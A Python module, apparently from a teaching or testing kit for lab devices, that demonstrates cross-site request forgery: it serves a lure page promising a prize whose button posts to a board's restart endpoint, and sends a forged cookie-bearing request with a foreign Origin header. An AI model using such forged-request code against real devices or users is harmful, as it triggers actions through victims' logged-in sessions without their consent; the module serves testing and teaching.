"""A page of another origin, which has the reader's browser ask the board for something (cross-site request forgery)."""

from __future__ import annotations

import atexit
import threading
from contextlib import suppress
from html import escape
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from kit.attacks.attack import Attack, Step, came_back, target
from kit.board.board import Board
from kit.errors import interruptible
from kit.ota.info import read_info
from kit.ota.login import login
from kit.ota.web import web_address
from kit.shown import html_link

HOST = "127.0.0.1"
ORIGIN = "http://prizes.test"  # of a page that is not the board's; the name is nobody's (RFC 2606)
PAGE = """<!DOCTYPE html>
<html lang="en">
<meta charset="utf-8">
<title>You have won</title>
<h1>You have won a prize</h1>
<form method="post" action="{}/restart"><button>Fetch it</button></form>
"""


class ForeignPage:
    """A page on this computer that belongs to nobody's board; its button has a board restart, if it lets that happen.

    It is served until its `with` block or Python ends.
    """

    def __init__(self, board: str) -> None:
        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                body = PAGE.format(escape(board)).encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=UTF-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_: object) -> None:
                """Say nothing."""

        self._server = ThreadingHTTPServer((HOST, 0), Handler)
        self._server.handle_error = lambda *_: None  # a browser that hangs up
        self.url = f"http://{HOST}:{self._server.server_port}"
        self._thread = threading.Thread(target=self._server.serve_forever, name="foreign page", daemon=True)
        self._thread.start()
        atexit.register(self.__exit__)

    def __repr__(self) -> str:
        return "a page of another origin: it promises a prize"

    def _repr_html_(self) -> str:
        return html_link(self.url, repr(self))

    def __enter__(self) -> ForeignPage:
        return self

    def __exit__(self, *_: object) -> None:
        atexit.unregister(self.__exit__)
        with suppress(OSError):
            self._server.shutdown()
            self._server.server_close()
        self._thread.join()


def foreign_page(board: Board | str, *, confirm: bool = False) -> ForeignPage:
    """Serve a page from another port of this computer whose button asks the board for a restart; open it in a browser.

    Log in to the board's own page first: the browser sends the cookie along, whatever page asks. Behind a hub's proxy
    all pages are of one origin, and no board can tell them apart.

    Raises:
        KitError: this board may not be attacked.
    """
    target(board, confirm)
    return ForeignPage(web_address(getattr(board, "url", board)))


@interruptible
def forge_request(board: Board | str, *, confirm: bool = False) -> Attack:
    """Ask for a restart as the browser of somebody who is logged in does, once a page of another origin has it do so.

    Raises:
        KitError: this board may not be attacked, does not answer, or does not know the password of the settings.
    """
    web = target(board, confirm)
    login(web, read_info(web), getattr(board, "is_virtual", False))
    cookie, web.token = f"token={web.token}", None
    answer = web.request("POST", "/restart", headers={"Origin": ORIGIN, "Cookie": cookie})
    step = Step(f"POST /restart, cookie and all, of {ORIGIN}", came_back(answer))
    return Attack("Request from a foreign page", (step,), answer.is_ok)
